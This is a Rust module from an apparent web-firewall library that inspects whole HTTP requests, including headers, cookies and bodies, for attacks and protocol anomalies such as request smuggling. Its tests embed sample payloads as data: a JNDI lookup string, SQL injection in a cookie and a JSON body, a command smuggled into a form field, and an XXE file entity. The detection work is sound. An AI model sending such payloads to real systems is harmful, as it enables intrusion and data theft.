//! A whole request as a proxy or web firewall has it: all headers, cookies and the body, besides what
//! an access log holds.

use super::{
    Kind, Scratch, Verdict, WebRequest, body, cut, decode, html, judge_with, literals,
    literals::Scope, multipart, read_value, text,
};

/// Most headers of one request that are read.
const MAX_HEADERS: usize = 128;
/// Most cookies of one request that are read.
const MAX_COOKIES: usize = 256;
/// Most ranges that a browser or download program asks for at once.
const MAX_RANGES: usize = 10;

/// A whole request.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct WholeRequest<'r> {
    /// Method, such as `POST`.
    pub method: &'r str,
    /// Request target or full URL.
    pub uri: &'r str,
    /// Version, such as `HTTP/1.1`.
    pub version: Option<&'r str>,
    /// Names and values, as they came.
    pub headers: &'r [(&'r str, &'r str)],
    /// The body as text.
    pub body: Option<&'r str>,
}

impl<'r> WholeRequest<'r> {
    /// The first value of the header `name`.
    fn header(&self, name: &str) -> Option<&'r str> {
        let found = self
            .headers
            .iter()
            .find(|(key, _)| key.trim().eq_ignore_ascii_case(name));
        found.map(|(_, value)| *value)
    }
}

/// Judges a whole request.
#[must_use]
pub fn judge_whole(request: &WholeRequest<'_>, scratch: &mut Scratch) -> Verdict {
    let logged = WebRequest {
        method: request.method,
        uri: request.uri,
        user_agent: request.header("user-agent"),
        referer: request.header("referer"),
    };
    let mut verdict = judge_with(&logged, scratch);
    for (name, value) in request.headers.iter().take(MAX_HEADERS) {
        read_header(name.trim(), cut(value), &mut verdict);
    }
    if let Some(sent) = request.body.filter(|body| !body.trim().is_empty()) {
        let content_type = request.header("content-type").unwrap_or("");
        body::read(content_type, sent, &mut verdict);
    }
    protocol(request, &mut verdict);
    verdict
}

/// Headers whose grammar has quotes, brackets and stars of its own.
const STRUCTURED: &[&str] = &[
    "authorization",
    "cache-control",
    "connection",
    "content-disposition",
    "content-length",
    "content-type",
    "date",
    "dnt",
    "etag",
    "forwarded",
    "from",
    "host",
    "keep-alive",
    "link",
    "origin",
    "pragma",
    "priority",
    "range",
    "te",
    "traceparent",
    "upgrade",
    "via",
    "want-digest",
];

fn read_header(name: &str, value: &str, verdict: &mut Verdict) {
    let lower = text::head(name, 64).to_ascii_lowercase();
    match lower.as_str() {
        // Read with the target.
        "user-agent" | "referer" => {}
        "cookie" => cookies(value, verdict),
        // Programs take it for a proxy to use (CVE-2016-5385).
        "proxy" => verdict.add(Kind::Header, 5, "header-proxy"),
        "x-filename" | "x-file-name" => multipart::file_name(value, verdict),
        _ => {
            literals::scan(value, Scope::AGENT, verdict);
            literals::scan(value, Scope::VALUE, verdict);
            text::expressions(value, verdict);
            if value.contains('<') && !value.starts_with('<') {
                html::read(value, verdict);
            }
            let structured = STRUCTURED.contains(&lower.as_str())
                || ["accept", "if-", "sec-"]
                    .iter()
                    .any(|start| lower.starts_with(start));
            if !structured && decode::needs_reading(value.as_bytes()) {
                read_value(&decode::value(value, false), verdict);
            } else if value.contains("..") {
                text::traversal(&decode::value(value, false), false, verdict);
            }
        }
    }
}

fn cookies(value: &str, verdict: &mut Verdict) {
    for cookie in value.split(';').take(MAX_COOKIES) {
        let cookie = cookie.trim();
        let (name, value) = cookie.split_once('=').unwrap_or(("", cookie));
        super::read_sent(name, true, verdict);
        super::read_sent(value.trim_matches('"'), true, verdict);
    }
    // A semicolon may belong to an attack.
    if decode::has_quote_or_bracket(&value.replace(';', "")) {
        read_value(&decode::value(value, true), verdict);
    }
}

/// What no browser or honest program sends (RFC 9110, RFC 9112).
fn protocol(request: &WholeRequest<'_>, verdict: &mut Verdict) {
    let version = request.version.unwrap_or("").trim();
    if !version.is_empty() && !is_version(version) {
        verdict.add(Kind::Protocol, 5, "protocol-version");
    }
    let method = request.method.trim();
    if !method.is_empty()
        && !METHODS
            .iter()
            .any(|known| method.eq_ignore_ascii_case(known))
    {
        verdict.add(Kind::Protocol, 5, "protocol-unknown-method");
    }
    lengths(request, verdict);
    if let Some(range) = request.header("range")
        && range.split(',').count() > MAX_RANGES
    {
        verdict.add(Kind::Protocol, 5, "protocol-many-ranges");
    }
    if let Some(kind) = request.header("content-type")
        && !is_media_type(kind)
    {
        verdict.add(Kind::Protocol, 5, "protocol-content-type");
    }
    if has_control_character(cut(request.uri)) {
        verdict.add(Kind::Protocol, 5, "protocol-control-character");
    }
    if overrides_method(request.uri) {
        verdict.add(Kind::Protocol, 5, "protocol-method-in-query");
    }
}

/// A control character in the target, encoded or not. Text fields send tabs and line breaks.
fn has_control_character(uri: &str) -> bool {
    let once = |pair: &[u8]| {
        std::str::from_utf8(pair)
            .is_ok_and(|pair| u8::from_str_radix(pair, 16).is_ok_and(is_control))
    };
    uri.bytes().any(is_control)
        || uri
            .as_bytes()
            .windows(3)
            .any(|part| matches!(part, [b'%', pair @ ..] if once(pair)))
}

const fn is_control(byte: u8) -> bool {
    byte < 32 && !matches!(byte, b'\t' | b'\n' | b'\r') || byte == 127
}

/// `?_method=DELETE`: frameworks take the method from a form's field; in a query a link could carry it.
fn overrides_method(uri: &str) -> bool {
    let query = uri.split_once('?').map_or("", |(_, query)| query);
    query.split('&').any(|field| {
        let value = field.strip_prefix("_method=").unwrap_or("");
        let value = decode::value(value, true);
        METHODS
            .iter()
            .any(|known| value.eq_ignore_ascii_case(known))
    })
}

/// Two answers to how long the body is, by which requests are smuggled past a proxy.
fn lengths(request: &WholeRequest<'_>, verdict: &mut Verdict) {
    let all = |name: &str| -> Vec<&str> {
        let headers = request.headers.iter();
        headers
            .filter(|(key, _)| key.trim().eq_ignore_ascii_case(name))
            .map(|(_, value)| value.trim())
            .collect()
    };
    let (lengths, codings) = (all("content-length"), all("transfer-encoding"));
    let spaced = request.headers.iter().take(MAX_HEADERS).any(|(name, _)| {
        let bare = name.trim_matches(|letter: char| !letter.is_ascii_graphic());
        bare.len() != name.len()
            && ["transfer-encoding", "content-length"]
                .iter()
                .any(|known| bare.eq_ignore_ascii_case(known))
    });
    let known = [
        "chunked", "gzip", "deflate", "compress", "identity", "trailers",
    ];
    let odd_coding = codings.iter().any(|coding| {
        coding.split(',').any(|one| {
            !known
                .iter()
                .any(|known| one.trim().eq_ignore_ascii_case(known))
        })
    });
    let differ = lengths
        .iter()
        .any(|length| Some(length) != lengths.first() || length.parse::<u64>().is_err());
    if spaced
        || odd_coding
        || codings.len() > 1
        || differ
        || !(codings.is_empty() || lengths.is_empty())
    {
        verdict.add(Kind::Protocol, 5, "protocol-two-lengths");
    }
    let bare = ["get", "head", "trace"]
        .iter()
        .any(|bare| request.method.eq_ignore_ascii_case(bare));
    let sent = request.body.is_some_and(|body| !body.trim().is_empty());
    if bare && sent && lengths.first() != Some(&"0") {
        verdict.add(Kind::Protocol, 3, "protocol-body-with-get");
    }
}

fn is_version(version: &str) -> bool {
    [
        "HTTP/0.9", "HTTP/1.0", "HTTP/1.1", "HTTP/2", "HTTP/2.0", "HTTP/3", "HTTP/3.0",
    ]
    .iter()
    .any(|known| version.eq_ignore_ascii_case(known))
}

/// `type/subtype; name=value`, lists and stars allowed (RFC 9110, 8.3.1).
fn is_media_type(value: &str) -> bool {
    let token = |text: &str| {
        !text.is_empty()
            && text
                .bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || b"!#$&^_.+-*'`|~%".contains(&byte))
    };
    let value = value.trim();
    if value.is_empty() {
        return true;
    }
    let mut parts = value.split(';');
    let kind = parts.next().unwrap_or("").trim();
    let typed = kind.split(',').all(|one| {
        one.trim()
            .split_once('/')
            .is_some_and(|(main, sub)| token(main) && token(sub))
    });
    typed
        && parts.all(|part| {
            let part = part.trim();
            part.is_empty()
                || part
                    .split_once('=')
                    .is_some_and(|(name, _)| token(name.trim()))
        })
}

/// The IANA registry of methods, without those of web publishing that nobody uses, and those that
/// caches and media servers added.
const METHODS: &[&str] = &[
    "ACL",
    "BASELINE-CONTROL",
    "BIND",
    "CHECKIN",
    "CHECKOUT",
    "CONNECT",
    "COPY",
    "DELETE",
    "GET",
    "HEAD",
    "LABEL",
    "LINK",
    "LOCK",
    "MERGE",
    "MKACTIVITY",
    "MKCALENDAR",
    "MKCOL",
    "MOVE",
    "OPTIONS",
    "ORDERPATCH",
    "PATCH",
    "POST",
    "PRI",
    "PROPFIND",
    "PROPPATCH",
    "PURGE",
    "PUT",
    "QUERY",
    "REBIND",
    "REPORT",
    "SEARCH",
    "TRACE",
    "UNBIND",
    "UNCHECKOUT",
    "UNLINK",
    "UNLOCK",
    "UPDATE",
    "VERSION-CONTROL",
    "NOTIFY",
    "SUBSCRIBE",
    "UNSUBSCRIBE",
    "M-SEARCH",
    "RPC_IN_DATA",
    "RPC_OUT_DATA",
    "BPROPFIND",
    "BPROPPATCH",
    "BCOPY",
    "BMOVE",
    "BDELETE",
    "POLL",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(request: &WholeRequest<'_>, expected: &[&str]) {
        let verdict = judge_whole(request, &mut Scratch::default());
        assert_eq!(verdict.why, expected, "{request:?}");
    }

    #[test]
    fn headers_are_judged() {
        for (header, value, expected) in [
            ("Accept", "text/html;q=0.9,*/*;q=0.8", &[] as &[&str]),
            ("If-None-Match", "W/\"abc-12\"", &[]),
            (
                "Sec-CH-UA",
                "\"Chromium\";v=\"126\", \"Not;A=Brand\";v=\"8\"",
                &[],
            ),
            (
                "Cookie",
                "session=abc123; theme=dark; town=King%27s%20Lynn",
                &[],
            ),
            ("Cookie", "id=1%27%20or%20%271%27=%271", &["sql-condition"]),
            ("X-Forwarded-For", "203.0.113.7, 198.51.100.2", &[]),
            (
                "X-Api-Version",
                "${jndi:ldap://192.0.2.1/a}",
                &["log-lookup", "inclusion-scheme", "template-lookup"],
            ),
            ("Proxy", "http://192.0.2.1/", &["header-proxy"]),
            (
                "Content-Type",
                "text/xml; nonsense",
                &["protocol-content-type"],
            ),
            ("Transfer-Encoding", "xchunked", &["protocol-two-lengths"]),
        ] {
            check(
                &WholeRequest {
                    method: "GET",
                    uri: "/",
                    headers: &[(header, value)],
                    ..WholeRequest::default()
                },
                expected,
            );
        }
    }

    #[test]
    fn bodies_are_judged() {
        let json = [("Content-Type", "application/json")];
        let form = [("Content-Type", "application/x-www-form-urlencoded")];
        let xml = [("Content-Type", "text/xml")];
        for (headers, body, expected) in [
            (&json, r#"{"text":"a < b, it's \"fine\""}"#, &[] as &[&str]),
            (
                &json,
                r#"{"id":"1\u0027 or \u00271\u0027=\u00271"}"#,
                &["sql-condition"],
            ),
            (&form, "name=Anne+O%27Brien&note=50%25+off", &[]),
            (
                &form,
                "host=192.0.2.1%3Bcat+/etc/hostname",
                &["command-words", "command-after-separator"],
            ),
            (
                &xml,
                "<?xml version=\"1.0\"?><order><item id=\"7\">Tea &amp; milk</item></order>",
                &[],
            ),
            (
                &xml,
                "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///c\">]><a>&b;</a>",
                &["xml-entity", "inclusion-scheme"],
            ),
        ] {
            let request = WholeRequest {
                method: "POST",
                uri: "/",
                version: Some("HTTP/1.1"),
                headers,
                body: Some(body),
            };
            check(&request, expected);
        }
    }

    proptest::proptest! {
        #[test]
        fn any_request_is_judged(kind in "[ -~]{0,40}", body in ".{0,200}", cookie in ".{0,40}") {
            let headers = [("Content-Type", kind.as_str()), ("Cookie", cookie.as_str())];
            let request = WholeRequest { method: "POST", uri: "/", version: None, headers: &headers, body: Some(&body) };
            let verdict = judge_whole(&request, &mut Scratch::default());
            proptest::prop_assert_eq!(verdict.categories.is_empty(), verdict.score == 0);
        }
    }
}
